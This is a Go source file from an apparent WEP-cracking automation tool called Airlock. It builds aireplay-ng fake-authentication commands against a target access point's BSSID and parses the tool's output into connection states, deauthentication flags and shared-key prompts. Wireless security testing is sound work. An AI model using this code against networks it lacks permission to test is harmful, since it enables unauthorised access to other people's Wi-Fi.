// Package aireplay drives the aireplay-ng attacks a WEP campaign needs:
// fake association, ARP request replay and deauthentication.
package aireplay

import (
	"strconv"

	"Airlock/internal/machine"
	"Airlock/internal/procman"
	"Airlock/internal/target"
	"Airlock/internal/wireless"
)

type AuthState int

const (
	AuthStarted AuthState = iota
	WaitingForBeacon
	Authenticated
	AuthTerminated
)

func (s AuthState) String() string {
	switch s {
	case AuthStarted:
		return "STARTED"
	case WaitingForBeacon:
		return "WAITING_FOR_BEACON"
	case Authenticated:
		return "AUTHENTICATED"
	case AuthTerminated:
		return "TERMINATED"
	}
	return "UNKNOWN"
}

const (
	// FlagDeauthenticated is set when the access point kicked us out.
	FlagDeauthenticated = "deauthenticated"
	// FlagNeedsKeystream is set when the network demands shared key
	// authentication and no keystream file was given.
	FlagNeedsKeystream = "needs_secondary_material"
)

// FakeAuthOptions tune the keep-alive loop of aireplay-ng --fakeauth.
type FakeAuthOptions struct {
	ReassocDelay   int
	KeepAliveDelay int
	Tries          int
}

var DefaultFakeAuthOptions = FakeAuthOptions{ReassocDelay: 30, KeepAliveDelay: 5, Tries: 5}

// FakeAuth associates our MAC with a WEP access point so replayed frames
// are accepted.
type FakeAuth struct {
	machine.Base[AuthState]

	keystream bool
}

// StartFakeAuth runs aireplay-ng --fakeauth against t. The keystream slot of
// t is used for shared key authentication when present.
func StartFakeAuth(bin string, iface *wireless.Interface, t *target.Target, fo FakeAuthOptions, opts procman.Options) (*FakeAuth, error) {
	args := []string{
		"--fakeauth", strconv.Itoa(fo.ReassocDelay),
		"-q", strconv.Itoa(fo.KeepAliveDelay),
		"-T", strconv.Itoa(fo.Tries),
		"-a", t.BSSID,
		"-h", iface.HardwareAddr(),
	}
	xor, keystream := t.Path(target.Keystream)
	if keystream {
		args = append(args, "-y", xor)
	}
	args = append(args, iface.Name)
	if opts.Name == "" {
		opts.Name = "fakeauth"
	}
	p, err := procman.Start(bin, args, opts)
	if err != nil {
		return nil, err
	}
	return NewFakeAuth(p, keystream), nil
}

// NewFakeAuth wraps a running fake authentication. keystream tells whether
// it was given a keystream file.
func NewFakeAuth(src machine.Source, keystream bool) *FakeAuth {
	f := &FakeAuth{
		Base:      machine.NewBase[AuthState]("aireplay-ng --fakeauth", src, AuthStarted, AuthTerminated),
		keystream: keystream,
	}
	f.Out = &machine.Table[AuthState]{
		Rules: []machine.Rule[AuthState]{
			machine.On("beacon", machine.Contains("Waiting for beacon frame"), AuthStarted, WaitingForBeacon).Goto(WaitingForBeacon),
			machine.On("associated", machine.Contains("Association successful"), AuthStarted, WaitingForBeacon, Authenticated).Goto(Authenticated),
			machine.On[AuthState]("deauth", machine.Contains("Got a deauthentication packet!")).Then(f.flag(FlagDeauthenticated)),
			machine.On[AuthState]("shared key", machine.Contains("Switching to shared key authentication")).Then(func([]string) error {
				if !f.keystream {
					f.SetFlag(FlagNeedsKeystream)
				}
				return nil
			}),
		},
		Noise: []machine.Matcher{
			machine.Contains("Sending Authentication Request"),
			machine.Contains("Authentication successful"),
			machine.Contains("Sending Association Request"),
			machine.Contains("Sending keep-alive packet"),
			machine.Contains("Sending encrypted challenge"),
			machine.Contains("Attack was unsuccessful"),
			machine.Prefix("Please specify an ESSID"),
			machine.Prefix("Possible reasons:"),
			machine.Prefix(" * "),
		},
		Unknown: machine.Ignore,
	}
	f.Outcome = machine.Outcome[AuthState]{
		SuccessStates: []AuthState{Authenticated},
		Adverse:       []string{FlagDeauthenticated, FlagNeedsKeystream},
	}
	return f
}

func (f *FakeAuth) flag(name string) func([]string) error {
	return func([]string) error {
		f.SetFlag(name)
		return nil
	}
}

// UsesKeystream reports whether the run was given a keystream file.
func (f *FakeAuth) UsesKeystream() bool { return f.keystream }
